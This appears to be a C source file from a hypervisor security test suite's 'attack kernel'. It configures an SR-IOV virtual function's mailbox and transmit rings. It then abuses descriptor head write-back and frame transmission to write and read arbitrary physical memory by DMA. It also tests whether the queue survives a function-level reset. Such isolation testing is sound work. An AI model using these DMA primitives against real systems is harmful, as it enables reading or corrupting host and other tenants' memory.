#include "tests/attack/kernel/vf.h"

/* VF registers (7.10.2, 8.29) */
#define VF_CTRL 0x0000
#define CTRL_RST (1u << 26)
#define VF_MBMEM 0x0800
#define VF_MAILBOX 0x0c40
#define MAILBOX_REQ (1u << 0)
#define MAILBOX_ACK (1u << 1)
#define MAILBOX_VFU (1u << 2)
#define VF_TDBAL 0x3800
#define VF_TDBAH 0x3804
#define VF_TDLEN 0x3808
#define VF_TDH 0x3810
#define VF_TDT 0x3818
#define VF_TXDCTL 0x3828
#define VF_TDWBAL 0x3838
#define VF_TDWBAH 0x383c
#define TDWBAL_ON 1u
#define DCTL_ENABLE (1u << 25)

#define MSG_VF_RESET 1
#define MSG_ACK 0x80000000

/* Advanced descriptors (7.2.2.3) */
#define TXD_DATA (3u << 20)
#define TXD_EOP (1u << 24)
#define TXD_IFCS (1u << 25)
#define TXD_RS (1u << 27)
#define TXD_DEXT (1u << 29)
#define TXD_PAYLEN(n) ((u32)(n) << 14)
#define RING 256
#define FRAME 64

#define CAP_PCIE 0x10
#define DEVCTL 8
#define DEVCTL_FLR (1u << 15)

struct descriptor {
	u64 address;
	u32 command, status;
};

static volatile struct descriptor ring[RING] __attribute__((aligned(4096)));
static u8 frame[FRAME] __attribute__((aligned(4096)));
static volatile u32 written __attribute__((aligned(64)));
u64 vf_offset;

static u64 for_device(const volatile void *p)
{
	return (u64)p + vf_offset;
}

unsigned int vf_capability(u8 id)
{
	unsigned int at = *config8(CONFIG_CAPABILITIES);

	for (unsigned int i = 0; at && i < 48; i++) {
		if (*config8(at) == id)
			return at;
		at = *config8(at + 1);
	}
	return 0;
}

volatile u32 *vf_register(unsigned int reg)
{
	return (volatile u32 *)(VF_BAR0 + reg);
}

/* Wait until the bits @mask of register @reg are @value; false after @ms. */
static bool wait_register(unsigned int reg, u32 mask, u32 value, u32 ms)
{
	for (; (*vf_register(reg) & mask) != value; ms--) {
		if (!ms)
			return false;
		wait_ms(1);
	}
	return true;
}

static bool mailbox_reset(void)
{
	u32 reply;

	*vf_register(VF_MAILBOX) = MAILBOX_VFU;
	if (!(*vf_register(VF_MAILBOX) & MAILBOX_VFU))
		return false;
	*vf_register(VF_MBMEM) = MSG_VF_RESET;
	*vf_register(VF_MAILBOX) = MAILBOX_REQ;
	/* Served in the exit: the answer is there */
	reply = *vf_register(VF_MBMEM);
	*vf_register(VF_MAILBOX) = MAILBOX_ACK;
	return reply == (MSG_VF_RESET | MSG_ACK);
}

/* An empty queue whose next descriptor is @at. */
static bool start_queue(u32 at)
{
	*vf_register(VF_TXDCTL) = 0;
	*vf_register(VF_TDBAL) = (u32)for_device(ring);
	*vf_register(VF_TDBAH) = (u32)(for_device(ring) >> 32);
	*vf_register(VF_TDLEN) = sizeof(ring);
	*vf_register(VF_TDH) = at;
	*vf_register(VF_TXDCTL) = DCTL_ENABLE;
	*vf_register(VF_TDT) = at;
	return wait_register(VF_TXDCTL, DCTL_ENABLE, DCTL_ENABLE, 100);
}

void vf_reset(void)
{
	*config16(vf_capability(CAP_PCIE) + DEVCTL) = DEVCTL_FLR;
	*config32(CONFIG_BAR0) = (u32)VF_BAR0;
	*config32(CONFIG_BAR0 + 4) = 0;
	*config32(CONFIG_BAR3) = (u32)VF_BAR3;
	*config32(CONFIG_BAR3 + 4) = 0;
	*config16(CONFIG_COMMAND) = COMMAND_ON;
}

bool vf_survives_reset(void)
{
	start_queue(0);
	vf_reset();
	return *vf_register(VF_TXDCTL) & DCTL_ENABLE;
}

bool vf_start(void)
{
	vf_reset();
	for (unsigned int i = 0; i < FRAME; i++)
		frame[i] = i < 6 ? 0xff : (u8)i;
	if (mailbox_reset() && start_queue(0))
		return true;
	print("attack kernel: the VF does not start\n");
	return false;
}

/* Send the frame at @address with the head written back to @head. */
static bool send(u64 address, u64 head, u32 at)
{
	volatile struct descriptor *d = &ring[at];

	if (!start_queue(at))
		return false;
	*vf_register(VF_TDWBAL) = (u32)head | TDWBAL_ON;
	*vf_register(VF_TDWBAH) = (u32)(head >> 32);
	d->address = address;
	d->command = TXD_DATA | TXD_EOP | TXD_IFCS | TXD_RS | TXD_DEXT | FRAME;
	d->status = TXD_PAYLEN(FRAME);
	__atomic_thread_fence(__ATOMIC_SEQ_CST);
	*vf_register(VF_TDT) = at + 1;
	return wait_register(VF_TDH, 0xffff, at + 1, 1000);
}

bool vf_write(u64 target, u32 value)
{
	return send(for_device(frame), target, value - 1);
}

bool vf_read(u64 target)
{
	return send(target, for_device(&written), 0);
}
